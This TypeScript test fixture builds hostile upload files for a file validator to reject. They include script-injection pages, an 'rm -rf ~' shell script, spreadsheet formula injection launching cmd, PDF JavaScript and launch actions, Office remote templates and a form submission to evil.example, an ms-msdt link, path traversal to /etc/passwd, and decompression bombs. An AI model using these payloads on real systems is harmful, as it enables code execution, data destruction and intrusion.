import { deflateSync } from 'node:zlib';
import type { Made } from './honest.fixture.ts';
import {
  beginning,
  box,
  chunk,
  contentOf,
  contentTypes,
  extendedWebp,
  heic,
  hugePng,
  joined,
  jpegOf,
  latin1,
  mp4,
  objectsIn,
  openDocument,
  openXml,
  PAGES,
  pdf,
  pngOf,
  relation,
  relations,
  sizedJpeg,
  stream,
  typeOfEnd,
  WEBP_LOSSY,
  zip,
} from './made.fixture.ts';
import type { FileFault } from './types.ts';

export type Hostile = Made & { readonly fault: FileFault };
/** `end`: of the name, by which it is sent. */
const hostile = (fault: FileFault, end: string, name: string, bytes: Buffer | string): Hostile => ({
  fault,
  name: `${name}.${end}`,
  mediaType: typeOfEnd(end),
  bytes: Buffer.from(bytes),
});

const SCRIPT = '<script>alert(document.domain)</script>';
const PAGE = `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`;
const ARCHIVE = zip([{ name: 'run.exe', content: 'MZ' }]);
const JAVA_SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const OLE = joined(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_048));
const EXE = joined('MZ', Buffer.alloc(62), 'PE', Buffer.alloc(200));
const GIF = joined('GIF89a', Buffer.alloc(20), ';');
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
/** A comment of a picture, in which the page is. */
const commented = joined(jpegOf(8, 8).subarray(0, 2), latin1(`\u00ff\u00fe\u0000\u006c${PAGE.padEnd(0x6a)}`), jpegOf(8, 8).subarray(2));

const TEXTS: readonly Hostile[] = [
  hostile('markup', 'txt', 'page', PAGE),
  hostile('markup', 'csv', 'page after lines', `\n\n  \t${PAGE}`),
  hostile('markup', 'json', 'page', PAGE),
  hostile('markup', 'txt', 'page behind a mark of order', `\ufeff${PAGE}`),
  hostile('markup', 'txt', 'drawing', SVG),
  hostile('markup', 'geojson', 'drawing', `<?xml version="1.0"?>${SVG}`),
  hostile('markup', 'txt', 'script', SCRIPT),
  hostile('markup', 'txt', 'comment before a page', `<!-- -->${PAGE}`),
  hostile('mistyped', 'txt', 'printed page', pdf(PAGES).toString('ascii').replaceAll('\0', '')),
  hostile('mistyped', 'txt', 'rich text', '{\\rtf1\\ansi{\\object\\objocx}}'),
  hostile('mistyped', 'txt', 'program of a shell', '#!/bin/sh\nrm -rf ~\n'),
  hostile('mistyped', 'txt', 'mail with a page', 'MIME-Version: 1.0\nContent-Type: text/html\n\n<p>'),
  hostile('encoding', 'txt', 'program', EXE),
  hostile('encoding', 'csv', 'archive', ARCHIVE),
  hostile('encoding', 'txt', 'page in sixteen bits', Buffer.from(`\ufeff${PAGE}`, 'utf16le')),
  hostile('encoding', 'txt', 'page in seven bits behind a broken byte', joined(Buffer.from([0xff]), PAGE)),
  hostile('active', 'csv', 'program by a cell', "tonnes\n=cmd|' /C calc'!A0\n"),
  hostile('active', 'tsv', 'program by a quoted cell', 'a\t"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'),
  hostile('damaged', 'json', 'half', '{"readings":[1,2'),
  hostile('damaged', 'json', 'script', 'alert(1)'),
  hostile('oversized', 'json', 'deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
  hostile('mistyped', 'geojson', 'no geography', '{"type":"Topology"}'),
];

const PDFS: readonly Hostile[] = [
  hostile('mistyped', 'pdf', 'page', PAGE),
  hostile('mistyped', 'pdf', 'page before it', joined(PAGE, pdf(PAGES))),
  hostile('mistyped', 'pdf', 'archive before it', joined(ARCHIVE, pdf(PAGES))),
  hostile('mistyped', 'pdf', 'program', EXE),
  hostile('double', 'pdf', 'archive behind it', joined(pdf(PAGES), ARCHIVE)),
  hostile(
    'double',
    'pdf',
    'archive within it',
    pdf([...PAGES, stream('', zip([{ name: 'a', content: 'b' }], { comment: ' '.repeat(60_000) }))]).subarray(0),
  ),
  hostile('double', 'pdf', 'page behind it', joined(pdf(PAGES), PAGE)),
  hostile('double', 'pdf', 'page in its first line', pdf(PAGES, '', `1.7 ${PAGE}`)),
  hostile('damaged', 'pdf', 'half', pdf(PAGES).subarray(0, 300)),
  hostile('damaged', 'pdf', 'head alone', '%PDF-1.7\n'),
  hostile('active', 'pdf', 'script at once', beginning(JAVA_SCRIPT)),
  hostile('active', 'pdf', 'script by the numbers of its letters', beginning('<< /S /J#61v#61Script /JS (app.alert(1)) >>')),
  hostile('active', 'pdf', 'script in packed objects', beginning('9 0 R', objectsIn(JAVA_SCRIPT))),
  hostile(
    'active',
    'pdf',
    'script in packed objects that do not say what they are',
    pdf([...PAGES, stream('/F#69rst 4 /N 1 /Filter [/Fl]', deflateSync(latin1(`9 0 ${JAVA_SCRIPT}`)))]),
  ),
  hostile(
    'active',
    'pdf',
    'script within the bytes of a picture',
    pdf([...PAGES, stream('/Subtype /Image', `xx 9 0 obj ${JAVA_SCRIPT} endobj`)]),
  ),
  hostile('active', 'pdf', 'program', beginning('<< /S /Launch /F (calc.exe) >>')),
  hostile('active', 'pdf', 'file within it', pdf([...PAGES, stream('/Type /EmbeddedFile', 'MZ')])),
  hostile('active', 'pdf', 'form with scripts', pdf(['<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R >> >>', ...PAGES.slice(1)])),
  hostile('active', 'pdf', 'form that sends', beginning('<< /S /SubmitForm /F (https://evil.example) >>')),
  hostile('active', 'pdf', 'player', pdf([...PAGES, '<< /Subtype /RichMedia >>'])),
  hostile('locked', 'pdf', 'locked', pdf(PAGES, '/Encrypt 6 0 R ')),
  hostile(
    'unclear',
    'pdf',
    'objects packed in two ways',
    pdf([...PAGES, objectsIn(JAVA_SCRIPT, '/Filter [/ASCIIHexDecode /FlateDecode]')]),
  ),
  hostile('unclear', 'pdf', 'objects packed twice', pdf([...PAGES, objectsIn(JAVA_SCRIPT, '/Filter [/FlateDecode /FlateDecode]')])),
  hostile('unclear', 'pdf', 'objects whose packing is elsewhere', pdf([...PAGES, objectsIn(JAVA_SCRIPT, '/Filter 8 0 R')])),
  hostile(
    'oversized',
    'pdf',
    'objects without end',
    pdf([...PAGES, stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(80 * 1024 * 1024)))]),
  ),
];

const PICTURES: readonly Hostile[] = [
  hostile('mistyped', 'png', 'page', PAGE),
  hostile('mistyped', 'jpg', 'drawing', SVG),
  hostile('mistyped', 'jpg', 'another picture', pngOf(8, 8)),
  hostile('mistyped', 'png', 'moving picture', GIF),
  hostile('mistyped', 'webp', 'archive', ARCHIVE),
  hostile('mistyped', 'heic', 'film', mp4()),
  hostile('mistyped', 'mp4', 'program', EXE),
  hostile('double', 'jpg', 'archive behind it', joined(jpegOf(8, 8), ARCHIVE)),
  hostile('double', 'jpg', 'page behind it', joined(jpegOf(8, 8), PAGE)),
  hostile('double', 'jpg', 'page in its comment', commented),
  hostile('double', 'png', 'archive behind it', joined(pngOf(8, 8), ARCHIVE)),
  hostile(
    'double',
    'png',
    'archive in a part of its own',
    joined(pngOf(8, 8).subarray(0, -12), chunk('zipp', ARCHIVE), chunk('IEND', Buffer.alloc(0))),
  ),
  hostile('double', 'webp', 'page behind it', joined(WEBP_LOSSY, PAGE)),
  hostile('double', 'heic', 'archive in a box', joined(heic(8, 8), box('free', ARCHIVE))),
  hostile('damaged', 'heic', 'page behind it', joined(heic(8, 8), PAGE)),
  hostile('double', 'mp4', 'archive in a box', joined(mp4(), box('free', ARCHIVE))),
  hostile('damaged', 'jpg', 'half', jpegOf(64, 64).subarray(0, 900)),
  hostile('damaged', 'png', 'half', pngOf(64, 64).subarray(0, -20)),
  hostile('damaged', 'png', 'changed', Buffer.from(pngOf(64, 64)).fill(7, 60, 64)),
  hostile('damaged', 'webp', 'half', WEBP_LOSSY.subarray(0, -4)),
  hostile('damaged', 'mp4', 'without its index', joined(box('ftyp', 'isom', Buffer.alloc(4), 'isom'), box('mdat', 'x'))),
  hostile('damaged', 'mp4', 'half', mp4().subarray(0, -3)),
  hostile('oversized', 'png', 'pixels without end', hugePng(60_000, 60_000)),
  hostile('oversized', 'png', 'one line without end', hugePng(2_000_000_000, 1)),
  hostile('oversized', 'jpg', 'pixels without end', sizedJpeg(65_000, 65_000)),
  hostile('oversized', 'webp', 'pixels without end', extendedWebp(16_000, 16_000)),
  hostile('oversized', 'heic', 'pixels without end', heic(60_000, 60_000)),
];

const MACRO = contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml');
const typesWith = (more: string): string => contentTypes(`${typeOfEnd('docx')}.main+xml`, more);
const related = (...all: readonly string[]) => openXml('docx', { 'word/_rels/document.xml.rels': relations(...all) });
const many = Array.from({ length: 6_000 }, (_, index) => ({ name: `part${index}`, content: '' }));

const OFFICE: readonly Hostile[] = [
  hostile('mistyped', 'docx', 'old document', OLE),
  hostile('mistyped', 'xlsx', 'locked or old table', OLE),
  hostile('mistyped', 'docx', 'archive', ARCHIVE),
  hostile('mistyped', 'xlsx', 'document', openXml('docx')),
  hostile('mistyped', 'docx', 'macros by its type', openXml('docx', { '[Content_Types].xml': MACRO }).fill(0, 0, 1)),
  hostile('active', 'docx', 'document with macros', openXml('docx', { '[Content_Types].xml': MACRO })),
  hostile('active', 'docx', 'macros', openXml('docx', { 'word/vbaProject.bin': OLE })),
  hostile('active', 'xlsx', 'macros in capitals', openXml('xlsx', { 'XL/VBAPROJECT.BIN': OLE })),
  hostile(
    'active',
    'docx',
    'macros by another name',
    openXml('docx', {
      '[Content_Types].xml': typesWith('<Override PartName="/a" ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
      'word/a': OLE,
    }),
  ),
  hostile('active', 'pptx', 'control', openXml('pptx', { 'ppt/activeX/activeX1.bin': OLE })),
  hostile('active', 'docx', 'object', openXml('docx', { 'word/embeddings/oleObject1.bin': OLE })),
  hostile('active', 'docx', 'page within it', related(relation('aFChunk', 'chunk.mht'))),
  hostile('active', 'xlsx', 'links to data', openXml('xlsx', { 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' })),
  hostile('linked', 'docx', 'template from elsewhere', related(relation('attachedTemplate', 'https://evil.example/a.dotm', 'External'))),
  hostile(
    'linked',
    'docx',
    'template, disguised',
    related(relation('attachedTemplate', 'https://evil.example', '', 'TargetMode="Ex&#116;ernal"')),
  ),
  hostile('linked', 'docx', 'picture from elsewhere', related(relation('image', 'https://evil.example/a.png', 'External'))),
  hostile('linked', 'docx', 'link that starts a program', related(relation('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External'))),
  hostile('unclear', 'docx', 'entities', openXml('docx', { '_rels/.rels': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })),
  hostile('unclear', 'docx', 'relations in sixteen bits', openXml('docx', { '_rels/.rels': Buffer.from(relations(), 'utf16le') })),
  hostile('oversized', 'docx', 'zeros without end', openXml('docx', { 'word/media/a.bin': Buffer.alloc(100 * 1024 * 1024) })),
  hostile('oversized', 'docx', 'parts without end', zip(many)),
  hostile('damaged', 'docx', 'more than it says', zip([{ name: '[Content_Types].xml', content: Buffer.alloc(1_000_000), said: 10 }])),
  hostile(
    'damaged',
    'docx',
    'one part twice',
    zip([
      { name: 'a', content: '1' },
      { name: 'A', content: '2' },
    ]),
  ),
  hostile('damaged', 'docx', 'way out of its folder', openXml('docx', { '../../etc/passwd': 'x' })),
  hostile('damaged', 'docx', 'half', openXml('docx').subarray(0, 400)),
  hostile('locked', 'docx', 'locked', zip([{ name: '[Content_Types].xml', content: 'x', flags: 1 }])),
  hostile('double', 'docx', 'page behind it', joined(openXml('docx'), PAGE)),
  hostile('double', 'docx', 'page in its comment', openXml('docx', {}, { comment: PAGE })),
  hostile('mistyped', 'docx', 'page before it', openXml('docx', {}, { head: PAGE })),
  hostile('mistyped', 'odt', 'table', openDocument('odt', { mimetype: typeOfEnd('ods') })),
  hostile('active', 'odt', 'macros', openDocument('odt', { 'Basic/Standard/Module1.xml': '<x/>' })),
  hostile(
    'active',
    'ods',
    'macro by an event',
    openDocument('ods', { 'content.xml': contentOf('<x:event-listener xmlns:x="urn:s" xlink:href="&#118;nd.sun.star.script:a"/>') }),
  ),
  hostile(
    'linked',
    'odt',
    'picture from elsewhere',
    openDocument('odt', { 'content.xml': contentOf('<d:image xmlns:d="urn:d" xlink:href="https://evil.example/a.png"/>') }),
  ),
  hostile(
    'linked',
    'ods',
    'links to data',
    openDocument('ods', { 'content.xml': contentOf('<o:dde-source xmlns:o="urn:o" o:dde-application="cmd"/>') }),
  ),
  hostile(
    'locked',
    'odt',
    'locked',
    openDocument('odt', { 'META-INF/manifest.xml': '<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>' }),
  ),
];

const PASSED_OFF: readonly Hostile[] = [
  { ...hostile('mistyped', 'svg', 'drawing', SVG), mediaType: 'image/svg+xml' },
  { ...hostile('mistyped', 'html', 'page', PAGE), mediaType: 'text/html' },
  { ...hostile('mistyped', 'exe', 'virus', EICAR), mediaType: 'application/x-msdownload' },
];

/** Files as attackers would send them, each with why it is not taken. */
export const HOSTILE: readonly Hostile[] = [...TEXTS, ...PDFS, ...PICTURES, ...OFFICE, ...PASSED_OFF];
